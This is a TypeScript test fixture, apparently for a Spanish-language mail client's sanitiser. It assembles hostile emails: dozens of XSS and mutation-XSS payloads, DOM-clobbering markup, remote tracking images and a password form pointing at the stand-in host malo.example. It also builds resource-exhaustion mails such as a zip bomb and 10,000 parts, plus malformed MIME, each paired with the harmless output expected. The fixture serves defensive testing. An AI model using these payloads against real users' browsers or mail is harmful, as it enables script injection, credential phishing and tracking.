import {
  ANSWER,
  base64,
  type CorpusMail,
  type Expectation,
  filePart,
  htmlMail,
  htmlPart,
  mail,
  mailOf,
  multipart,
  part,
  plainPart,
  textMail,
  utf8,
} from './mail-builder.ts';

const evil = 'https://malo.example';
/** Markup that has to come out harmless; «hola» has to stay readable. */
const markup: Record<string, string> = {
  script: 'hola<script>alert(1)</script>',
  'script in pieces': 'hola<scr<script>x</script>ipt>alert(1)</script>',
  'script upper case': 'hola<SCRIPT SRC=//malo.example></SCRIPT>',
  'event handler': '<p onclick=alert(1) ONERROR="x">hola</p>',
  'handler after a slash': '<img/onerror=alert(1)/src=x>hola',
  'svg onload': 'hola<svg/onload=alert(1)>',
  'svg with a link': 'hola<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x></svg>hola',
  'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>hola',
  'mathml link': '<math href="javascript:alert(1)">hola</math>',
  'mathml mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>hola',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hola',
  'style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>hola',
  'template mutation':
    '<template><s><template><s><img src=x onerror=alert(1)>@</template></s></template>hola',
  'form mutation':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>hola',
  'title mutation': '<title><a title="</title><img src=x onerror=alert(1)>"></title>hola',
  'textarea mutation': '<textarea><img title="</textarea><img src=x onerror=alert(1)>">hola',
  'xmp mutation': '<xmp><p title="</xmp><svg/onload=alert(1)>">hola',
  'comment mutation': 'hola<!--><img src=x onerror=alert(1)>-->',
  'comment that never ends': 'hola<!-- <img src=x onerror=alert(1)>',
  'conditional comment': 'hola<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  cdata: 'hola<![CDATA[<img src=x onerror=alert(1)>]]>',
  'javascript link': '<a href="javascript:alert(1)">hola</a>',
  'javascript link in pieces': '<a href="java\tscr\nipt:alert(1)">hola</a>',
  'javascript link in entities': '<a href="&#x6A;avascript&colon;alert(1)">hola</a>',
  'javascript link behind a control': '<a href="\x01javascript:alert(1)">hola</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">hola</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">hola</a>',
  'blob link': '<a href="blob:https://x/1">hola</a>',
  'file link': '<a href="file:///etc/passwd">hola</a>',
  form: `<form action=${evil}><input name=clave type=password><button formaction=${evil}>hola</button></form>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${evil}">hola`,
  base: `<base href="${evil}/"><a href="/x">hola</a>`,
  link: `<link rel=stylesheet href=${evil}>hola`,
  iframe: `<iframe src=${evil} srcdoc="<script>alert(1)</script>"></iframe>hola`,
  object: `<object data=${evil}></object><embed src=${evil}>hola`,
  media: `<video src=${evil} poster=${evil} onerror=alert(1)></video><audio src=${evil}></audio>hola`,
  'style sheet': `<style>@import url(${evil}); body{background:url(${evil})}</style>hola`,
  'style url': `<p style="background:url(${evil});list-style-image:url(${evil})">hola</p>`,
  'style url in escapes': `<p style="background:u\\72l(${evil})">hola</p>`,
  'style overlay':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:.1">hola</div>',
  'style expression': '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">hola</p>',
  'remote image': `<img src="${evil}/p.gif" width=1 height=1>hola`,
  'remote image without protocol': '<img src="//malo.example/p.gif">hola',
  'remote image by srcset': `<img srcset="${evil}/a 2x"><picture><source srcset=${evil}></picture>hola`,
  'remote background': `<table background=${evil}><tr><td background=${evil}>hola</td></tr></table>`,
  'svg as data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hola',
  'ids and names': '<p id=location name=cookie class=modal>hola</p><a name=x id=y>x</a>',
  'clobbering form': '<form id=document name=body><input id=cookie></form>hola',
  marquee: '<marquee onstart=alert(1)>hola</marquee>',
  details: '<details open ontoggle=alert(1)>hola</details>',
  dialog: '<dialog open>hola</dialog>',
  'custom element': '<x-y onclick=alert(1)>hola</x-y>',
  'null in a tag': '<scr\0ipt>alert(1)</scr\0ipt>hola',
  'quotes out of order': '<img alt="`><script>alert(1)</script>`">hola',
  'attribute without end': 'hola<img alt="<script>alert(1)</script>',
};

function markupMails(): CorpusMail[] {
  return Object.entries(markup).map(([name, html]) => ({
    name: `html ${name}`,
    raw: () => htmlMail(`<html><body>${html}</body></html>`),
    // What never closes may swallow the text after it, as it does in a browser.
    expected:
      /never ends|attribute without end|textarea|xmp|title mutation|form mutation|mathml mutation|style mutation/.test(
        name,
      )
        ? {}
        : { text: ['hola'] },
  }));
}

const newsletter = () =>
  `<table>${Array.from({ length: 600 }, (_, index) => `<tr><td style="padding:0;font-family:Arial,Helvetica;color:#333333;font-size:14px;line-height:20px"><a href="https://x.cl/c?u=${index}&amp;v=${'a'.repeat(200)}"><img src="https://x.cl/i${index}.png" alt="Oferta ${index}" width="120"></a><p>Oferta número ${index} para la familia</p></td></tr>`).join('')}</table>`;

const nested = (levels: number) => {
  let current = plainPart('fondo del pozo');
  for (let level = 0; level < levels; level += 1) {
    const { header, body } = multipart('mixed', [current], { boundary: `n${level}z` });
    current = part([header], body);
  }
  return Buffer.concat([utf8('From: ana@familia.cl\r\nSubject: Consulta\r\n'), current]);
};

/** Mail made to use up time and memory. */
const heavy: [name: string, raw: () => Buffer, expected: Expectation][] = [
  [
    '10,000 parts',
    () =>
      mailOf(
        'mixed',
        Array.from({ length: 10_000 }, (_, index) => plainPart(`parte ${index}`)),
      ),
    { text: ['parte 0', 'parte 900'], notices: ['mail.too_many_parts'] },
  ],
  [
    '10,000 parts without headers',
    () => mail(['Content-Type: multipart/mixed; boundary=q'], '--q\r\n'.repeat(10_000)),
    { notices: ['mail.too_many_parts'] },
  ],
  ['60 levels', () => nested(60), { text: ['fondo del pozo'] }],
  ['200 levels', () => nested(200), { text: ['fondo del pozo'], notices: ['mail.too_deep'] }],
  [
    '6,000 links',
    () => htmlMail('<a href="https://x.cl/a?b=c&d=e">enlace</a> '.repeat(6000)),
    { text: ['enlace'] },
  ],
  [
    '20,000 nested tags',
    () => htmlMail(`${'<div>'.repeat(20_000)}hola${'</div>'.repeat(20_000)}`),
    { text: ['hola'], notices: ['mail.html_too_complex'] },
  ],
  [
    '20,000 nested tags that never close',
    () => htmlMail(`${'<b><i>'.repeat(10_000)}hola`),
    { text: ['hola'], notices: ['mail.html_too_complex'] },
  ],
  ['newsletter of 290 kB', () => htmlMail(newsletter()), { text: ['Oferta número 599'] }],
  [
    '5 MB of HTML',
    () => htmlMail(`<p>hola</p>${'<p>relleno</p>'.repeat(400_000)}`),
    { text: ['hola'], notices: ['mail.html_too_complex'] },
  ],
  [
    '2 MB on one line',
    () => textMail(`hola ${'a'.repeat(2_000_000)}`),
    { text: ['hola'], notices: ['mail.text_truncated'] },
  ],
  ['300,000 quoted lines', () => textMail(`hola\n${'> x\n'.repeat(100_000)}`, ANSWER), { visible: 'hola' }],
  [
    '100,000 lines like headers',
    () => textMail('El 3 de marzo\nDe: x\n_____________\n'.repeat(30_000), ANSWER),
    { text: ['El 3 de marzo'] },
  ],
  [
    'one line like a thousand headers',
    () => textMail(`${'El 3 de marzo escribió '.repeat(20_000)}:`, ANSWER),
    { text: ['El 3 de marzo'] },
  ],
  [
    'spaces before a word like wrote',
    () => textMail(`El 3${' '.repeat(100_000)}x escribió`, ANSWER),
    { text: ['escribió'] },
  ],
  [
    'a zip bomb',
    () =>
      mailOf('mixed', [
        plainPart('hola'),
        filePart(['Content-Type: application/zip; name=bomba.zip'], Buffer.alloc(100_000, 0x50)),
      ]),
    { text: ['hola'], files: ['bomba.zip'] },
  ],
  [
    'encoded words without end',
    () => mail([`Subject: ${'=?utf-8?Q?=C3=B1?= '.repeat(20_000)}`], 'hola'),
    { text: ['hola'] },
  ],
  [
    'opening brackets without end',
    () => mail([`From: ${'<'.repeat(50_000)}ana@familia.cl`], 'hola'),
    { text: ['hola'] },
  ],
  [
    'parentheses without end',
    () => mail([`To: ${'('.repeat(50_000)}ana@familia.cl`], 'hola'),
    { text: ['hola'] },
  ],
  [
    'parameters without end',
    () => mail([`Content-Type: text/plain; ${'name*0*=x; '.repeat(20_000)}`], 'hola'),
    { text: ['hola'] },
  ],
  ['begin without end', () => textMail(`hola\n${'begin 644 x\n'.repeat(50_000)}`), { text: ['hola'] }],
  [
    'styles without end',
    () => htmlMail(`<p style="${'color:red;'.repeat(50_000)}">hola</p>`),
    { text: ['hola'] },
  ],
  ['attributes without end', () => htmlMail(`<p ${'a=b '.repeat(50_000)}>hola</p>`), { text: ['hola'] }],
  ['meta without end', () => htmlMail(`hola${'<meta '.repeat(50_000)}`), { text: ['hola'] }],
  [
    'failures without end',
    () =>
      textMail(`${'550 user unknown at 5.5.5.5 '.repeat(40_000)}`, [
        'From: MAILER-DAEMON@x.cl',
        'Return-Path: <>',
        'Subject: failure notice',
      ]),
    { autoReply: true },
  ],
];

/** Structure broken on the way or on purpose. */
const broken: [name: string, raw: () => Buffer, expected: Expectation][] = [
  [
    'container that never closes',
    () =>
      mail(
        [multipart('mixed', [], { boundary: 'q' }).header],
        utf8('--q\r\nContent-Type: text/plain\r\n\r\nhola'),
      ),
    { text: ['hola'] },
  ],
  [
    'inner container that never closes',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=out'],
        utf8(
          '--out\r\nContent-Type: multipart/alternative; boundary=in\r\n\r\n--in\r\nContent-Type: text/plain\r\n\r\nhola\r\n--out\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\nx\r\n--out--',
        ),
      ),
    { text: ['hola'], files: ['a.pdf'] },
  ],
  [
    'no boundary named',
    () =>
      mail(
        ['Content-Type: multipart/mixed'],
        utf8('--abc\r\nContent-Type: text/plain\r\n\r\nhola\r\n--abc--'),
      ),
    { text: ['hola'] },
  ],
  [
    'wrong boundary named',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=otro'],
        utf8('--abc\r\nContent-Type: text/plain\r\n\r\nhola\r\n--abc--'),
      ),
    { text: ['hola'] },
  ],
  [
    'no boundary at all',
    () => mail(['Content-Type: multipart/mixed; boundary=otro'], 'hola, solo texto'),
    { text: ['hola, solo texto'] },
  ],
  [
    'HTML under a container without boundary',
    () => mail(['Content-Type: multipart/alternative'], '<html><body>hola</body></html>'),
    { text: ['hola'] },
  ],
  [
    'container encoded as a whole',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=q', 'Content-Transfer-Encoding: base64'],
        base64(utf8('--q\r\nContent-Type: text/plain\r\n\r\nhola\r\n--q--')),
      ),
    { text: ['hola'] },
  ],
  [
    'boundary that begins like another',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=a'],
        utf8(
          '--a\r\nContent-Type: multipart/alternative; boundary=ab\r\n\r\n--ab\r\nContent-Type: text/plain\r\n\r\nhola\r\n--ab--\r\n--a\r\nContent-Type: text/plain; name=b.txt\r\nContent-Disposition: attachment\r\n\r\nx\r\n--a--',
        ),
      ),
    { text: ['hola'], files: ['b.txt'] },
  ],
  [
    'boundary with blanks after it',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary="q"'],
        utf8('--q  \r\nContent-Type: text/plain\r\n\r\nhola\r\n--q-- '),
      ),
    { text: ['hola'] },
  ],
  [
    'part without headers',
    () => mail(['Content-Type: multipart/mixed; boundary=q'], utf8('--q\r\n\r\nhola\r\n--q--')),
    { text: ['hola'] },
  ],
  [
    'part without the empty line',
    () => mail(['Content-Type: multipart/mixed; boundary=q'], utf8('--q\r\nhola mundo\r\n--q--')),
    { text: ['hola mundo'] },
  ],
  [
    'text after the end',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=q'],
        utf8('--q\r\n\r\nhola\r\n--q--\r\nEste texto llegó después del final.'),
      ),
    { text: ['hola', 'después del final'] },
  ],
  [
    'parts after the end',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=q'],
        utf8('--q\r\n\r\nhola\r\n--q--\r\n--q\r\n\r\nmás texto\r\n--q--'),
      ),
    { text: ['hola', 'más texto'] },
  ],
  ['empty container', () => mail(['Content-Type: multipart/mixed; boundary=q'], utf8('--q--')), {}],
  [
    'text before the first part only',
    () => mail(['Content-Type: multipart/mixed; boundary=q'], utf8('hola antes\r\n--q--')),
    { text: ['hola antes'] },
  ],
  [
    'two Content-Types',
    () => mail(['Content-Type: text/plain', 'Content-Type: text/html'], 'hola'),
    { text: ['hola'] },
  ],
  ['Content-Type that is none', () => mail(['Content-Type: text'], 'hola'), { text: ['hola'] }],
  ['Content-Type of noise', () => mail(['Content-Type: ;;;===/'], 'hola'), { text: ['hola'] }],
  ['HTML without label', () => mail([], '<html><body><p>hola</p></body></html>'), { text: ['hola'] }],
  [
    'HTML charset in its head',
    () =>
      mail(
        ['Content-Type: text/html'],
        Buffer.from('<html><head><meta charset="iso-8859-1"></head><body>ma\xf1ana</body></html>', 'latin1'),
      ),
    { text: ['mañana'] },
  ],
  [
    'empty plain beside HTML',
    () => mailOf('alternative', [plainPart('  '), htmlPart('<p>hola</p>')]),
    { text: ['hola'] },
  ],
  [
    'plain that only points to the HTML',
    () =>
      mailOf('alternative', [
        plainPart('Su programa no muestra HTML.'),
        htmlPart(`<p>${'El texto que importa. '.repeat(20)}</p>`),
      ]),
    { text: ['El texto que importa.'] },
  ],
  [
    'text and HTML one after the other',
    () => mailOf('mixed', [plainPart('uno'), htmlPart('<p>dos</p>'), plainPart('tres')]),
    { text: ['uno', 'dos', 'tres'], html: ['uno', 'dos', 'tres'] },
  ],
  [
    'alternatives within alternatives',
    () => {
      const inner = multipart('alternative', [plainPart('hola'), htmlPart('<p>hola</p>')]);
      return mailOf('alternative', [part([inner.header], inner.body)]);
    },
    { text: ['hola'] },
  ],
  [
    'body marked as an attachment',
    () => textMail('hola', ['Content-Disposition: attachment']),
    { text: ['hola'] },
  ],
  [
    'body with a file name',
    () => textMail('hola', ['Content-Disposition: inline; filename=hola.txt']),
    { text: ['hola'], files: ['hola.txt'] },
  ],
  [
    'only a file',
    () =>
      mail(['Content-Type: application/pdf; name=a.pdf', 'Content-Transfer-Encoding: base64'], 'JVBERi0='),
    { files: ['a.pdf'] },
  ],
  [
    'digest',
    () =>
      mailOf('digest', [
        part([], utf8('From: a@x.cl\r\nSubject: uno\r\n\r\nx')),
        part([], utf8('From: a@x.cl\r\nSubject: dos\r\n\r\nx')),
      ]),
    { files: ['uno.eml', 'dos.eml'] },
  ],
  [
    'no mail at the end of headers in a part',
    () => mail(['Content-Type: multipart/mixed; boundary=q'], utf8('--q\r\nContent-Type: text/plain')),
    {},
  ],
  [
    'cut in the middle of base64',
    () =>
      mail(
        ['Content-Type: multipart/mixed; boundary=q'],
        utf8(
          '--q\r\n\r\nhola\r\n--q\r\nContent-Type: image/png; name=a.png\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAA',
        ),
      ),
    { text: ['hola'], files: ['a.png'] },
  ],
];

const table = (
  rows: readonly (readonly [string, () => Buffer, Expectation])[],
  family: string,
): CorpusMail[] => rows.map(([name, raw, expected]) => ({ name: `${family} ${name}`, raw, expected }));

/** Mail that attacks the reader of it, and mail that is only broken. */
export const hostileMails: CorpusMail[] = [
  ...markupMails(),
  ...table(heavy, 'heavy'),
  ...table(broken, 'broken'),
];
